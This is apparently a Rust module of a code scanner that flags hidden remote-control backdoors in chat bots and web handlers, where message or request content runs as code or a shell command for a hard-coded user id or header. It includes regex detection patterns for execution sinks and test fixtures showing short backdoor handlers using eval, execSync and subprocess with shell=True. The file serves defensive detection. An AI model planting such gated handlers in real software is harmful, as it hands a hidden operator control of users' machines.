//! Round 26: a remote-control backdoor in a bot or request handler. A
//! function body (a callback `(m) => { … }`, `function (req, res) { … }`,
//! a Python `def`; [`super::admin_backdoor::bodies`]) that hands the
//! content of a chat message or a request (`m.content`, `msg.text`,
//! `update.message.text`, `message["text"]`, `req.body`, `request.args`,
//! `$_POST[…]`: [`REMOTE_IN`]) to something that runs it as code or as a
//! command line (`eval`, `(0, eval)(…)`, `Function`, `vm.run*`,
//! `exec`/`execSync`, `os.system`, `subprocess.*(…, shell=True)`,
//! `exec.Command("sh", "-c", …)`, `shell_exec`, `Invoke-Expression`:
//! [`RUN`]) — directly in the call's argument list (matched by brackets)
//! or through a name the body assigns from it — while the body is gated on
//! a user id or header value written in the code ([`hard_coded_gate`]:
//! `OPERATORS.has(m.author.id)` with `OPERATORS = new Set(["1093…"])`,
//! `MAINT = [Number('58' + '31' + …)]`, `req.headers['x-probe'] ===
//! '…'`), gives whoever holds that id or header the machine: a remote
//! control channel (`Op::ReverseShell`, SK-EXEC-005). Near-misses: a bot
//! with a fixed command table (`COMMANDS[text]` → an argv list) runs
//! nothing the message spells; an owner id read from the user's own
//! configuration (`process.env.OWNER_ID`, `os.environ["OWNER_ID"]`) with no
//! id written in the code is the user's own operator console and is left
//! to the existing rules.

use super::{Sink, Src};
use crate::evidence::{Evidence, Op};
use crate::ssl::vocab::{ActType as A, ResourceScope as R};

/// The content of a chat message or a web request, as handlers read it.
static REMOTE_IN: crate::rx::Lazy = crate::rx::Lazy::new(
    r"(?i)\b(?:m|msg|message|ctx|context|update|interaction|event|evt|payload|data)(?:\.(?:message|effective_message))?\.(?:content|text|caption|body)\b|\b(?:req|request)\.(?:body|query|params|args|form|values|json|data|get_json\(\))|\b(?:m|msg|message|event|update|payload|data)\s*\[\s*['\x22](?:text|content|body|command|cmd)['\x22]\s*\]|\b(?:m|msg|message|event|payload)\.get\(\s*['\x22](?:text|content|command|cmd)['\x22]|\$_(?:GET|POST|REQUEST|COOKIE)\s*\[|\bphp://input\b",
);

/// A call that runs its argument as code or as a command line.
static RUN: crate::rx::Lazy = crate::rx::Lazy::new(
    r"\b(?:eval|exec|execSync|execAsync|Function|runInNewContext|runInThisContext|runInContext|os\.system|os\.popen|subprocess\.(?:run|call|Popen|check_output|check_call|getoutput|getstatusoutput)|shell_exec|passthru|system|popen|proc_open|Invoke-Expression|iex|exec\.Command(?:Context)?|asyncio\.create_subprocess_shell|create_subprocess_shell)\s*\)?\s*\(",
);

/// An id or a header value written in the code: a number of seven or more
/// digits, or digit strings concatenated (`'58' + '31' + '904'`).
static ID_LITERAL: crate::rx::Lazy =
    crate::rx::Lazy::new(r"(?:['\x22]\d{1,}['\x22]\s*\+\s*){2,}['\x22]\d{1,}['\x22]|\b\d{7,}\b");

/// A comparison of a request header with a literal.
static HEADER_GATE: crate::rx::Lazy = crate::rx::Lazy::new(
    r"(?i)(?:\bheaders?\b[^\n;]{0,60}|HTTP_[A-Z0-9_]+['\x22]\s*\]\s*)(?:===?|!==?)\s*['\x22][^'\x22\n]{6,}['\x22]",
);

/// A comparison or membership test on a line.
static TEST: crate::rx::Lazy =
    crate::rx::Lazy::new(r"===?|!==?|\.includes\(|\.has\(|\bin\b|\.contains\(|\.indexOf\(");

/// Bytes of a run call's argument list read (matched by brackets).
const ARGS_MAX: usize = 2_000;

/// Names a line assigns from a value matching `rx` (`cmd = m.text[6:]`,
/// `const code = msg.content.slice(5)`, `OPS := []int64{…}`).
fn assigned_from(text: &str, rx: &crate::rx::Lazy) -> Vec<String> {
    let mut out = Vec::new();
    for line in text.lines() {
        let Some(m) = rx.find(line) else { continue };
        let head = &line[..m.start()];
        let Some(eq) = head.rfind('=') else { continue };
        if head[..eq].ends_with(['=', '!', '<', '>']) || head[eq + 1..].starts_with('=') {
            continue;
        }
        let lhs = head[..eq].trim_end_matches(':').trim_end();
        let name: String = lhs
            .chars()
            .rev()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_' || *c == '$')
            .collect::<Vec<_>>()
            .into_iter()
            .rev()
            .collect();
        if !name.is_empty() && !name.chars().next().is_some_and(|c| c.is_ascii_digit()) {
            out.push(name);
        }
    }
    out
}

fn names_any(text: &str, names: &[String]) -> bool {
    names.iter().any(|n| crate::text::has_word(text, n))
}

/// Whether the body is gated on an id or header value written in the
/// code: a test line that holds such a literal or names a value the file
/// assigns from one, or a header compared with a literal.
fn hard_coded_gate(body: &str, id_names: &[String]) -> bool {
    HEADER_GATE.is_match(body)
        || body
            .lines()
            .any(|l| TEST.is_match(l) && (ID_LITERAL.is_match(l) || names_any(l, id_names)))
}

/// The identifier before a `.` that ends `head` (`re` of `re.exec`).
fn receiver(head: &str) -> Option<&str> {
    let h = head.strip_suffix('.')?;
    let start = h
        .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '$'))
        .map_or(0, |i| i + 1);
    Some(&h[start..])
}

/// Adds the remote-control step when a body holds the shape; see the
/// module docs.
pub fn scan(src: &Src, sink: &mut Sink) {
    let text = src.text;
    // No id or header literal in the file: no gate written in the code, so
    // no body is read (the body walk has a budget; most files never reach it).
    if !RUN.is_match(text)
        || !REMOTE_IN.is_match(text)
        || !(ID_LITERAL.is_match(text) || HEADER_GATE.is_match(text))
    {
        return;
    }
    let id_names = assigned_from(text, &ID_LITERAL);
    let b = text.as_bytes();
    for (s, e) in super::admin_backdoor::bodies(text) {
        let body = &text[s..e];
        if !REMOTE_IN.is_match(body) || !hard_coded_gate(body, &id_names) {
            continue;
        }
        let tainted = assigned_from(body, &REMOTE_IN);
        for m in RUN.find_iter(body) {
            // `/re/.exec(m.content)`, `str.system(…)`: a method of some
            // other object, unless the receiver is a process or code module.
            if let Some(recv) = receiver(&body[..m.start()])
                && !matches!(
                    recv,
                    "child_process"
                        | "cp"
                        | "childProcess"
                        | "vm"
                        | "os"
                        | "subprocess"
                        | "shell"
                        | "proc"
                )
            {
                continue;
            }
            let open = s + m.end() - 1;
            let close = crate::text::matching_close(b, open, ARGS_MAX).unwrap_or(open + 1);
            let close = crate::text::clamp_boundary(text, close.min(text.len()));
            let args = &text[open..close];
            let shellish = match m.as_str() {
                r if r.starts_with("subprocess.") && !r.contains("getoutput") => {
                    args.contains("shell=True")
                }
                r if r.starts_with("exec.Command") => args.contains("\"-c\""),
                _ => true,
            };
            if !shellish || !(REMOTE_IN.is_match(args) || names_any(args, &tainted)) {
                continue;
            }
            let start = s + m.start();
            let ev = Evidence::new(
                Op::ReverseShell,
                A::CallTool,
                R::Network,
                crate::text::snippet(&text[start..close], 120),
            )
            .instrument("message or request handler")
            .object("a remote control channel: chat message or request content run as code, for a user id or header value written in the code (a backdoor)");
            sink.push(src.at(ev, start, close, "code"));
            return;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(path: &str, text: &str) -> Vec<Evidence> {
        crate::extract::scan_text(scan, path, text)
    }

    #[test]
    fn handlers_that_run_message_content_for_a_hard_coded_id() {
        for (p, code) in [
            (
                "a.js",
                "const OPS = new Set([\"1093847561029384756\", process.env.OWNER_ID]);\nclient.on(\"messageCreate\", async (m) => {\n  if (!OPS.has(m.author.id)) return;\n  const r = await (0, eval)(`(async () => (${m.content.slice(5)}))()`);\n});\n",
            ),
            (
                "b.js",
                "const MAINT = [Number('58' + '31' + '904' + '277')];\nbot.on('message', (m) => {\n  if (!MAINT.includes(m.from.id)) return;\n  const out = execSync(m.text.slice(6)).toString();\n});\n",
            ),
            (
                "c.py",
                "ADMIN = 5831904277\n\nasync def on_message(update, ctx):\n    if update.effective_user.id != ADMIN:\n        return\n    cmd = update.message.text[6:]\n    out = subprocess.check_output(cmd, shell=True)\n",
            ),
        ] {
            let ev = run(p, code);
            assert!(ev.iter().any(|e| e.op == Op::ReverseShell), "{p}: {ev:#?}");
        }
    }

    #[test]
    fn command_tables_and_the_users_own_owner_id_are_quiet() {
        for (p, code) in [
            (
                "a.py",
                "OWNER = int(os.environ['OWNER_ID'])\nCOMMANDS = {'/uptime': ['uptime']}\n\ndef handle(m):\n    if m['from']['id'] != OWNER:\n        return\n    argv = COMMANDS.get(m['text'])\n    subprocess.run(argv, capture_output=True)\n",
            ),
            (
                "b.js",
                "client.on('messageCreate', async (m) => {\n  if (m.author.id !== process.env.OWNER_ID) return;\n  const r = eval(m.content.slice(5));\n});\n",
            ),
            (
                "c.js",
                "const ADMIN = '1093847561029384756';\nclient.on('messageCreate', async (m) => {\n  if (m.author.id !== ADMIN) return;\n  if (m.content === '!ping') m.reply('pong');\n});\n",
            ),
        ] {
            let ev = run(p, code);
            assert!(!ev.iter().any(|e| e.op == Op::ReverseShell), "{p}: {ev:#?}");
        }
    }
}
